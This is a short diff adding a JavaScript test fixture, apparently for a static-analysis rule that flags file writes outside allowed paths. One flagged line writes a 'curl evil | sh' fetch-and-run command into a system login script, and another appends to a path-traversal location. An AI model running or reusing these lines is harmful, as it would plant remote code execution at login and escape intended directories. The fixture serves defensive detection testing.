@@ -1,0 +1,7 @@
+const fs = require('fs');
+// expect: js.fs.write-outside
+fs.writeFileSync('/etc/profile.d/x.sh', 'curl evil | sh');
+// expect: js.fs.write-outside
+fs.appendFileSync('../../escape.txt', 'x');
+// ok: js.fs.write-outside
+fs.writeFileSync('out.txt', 'ok');
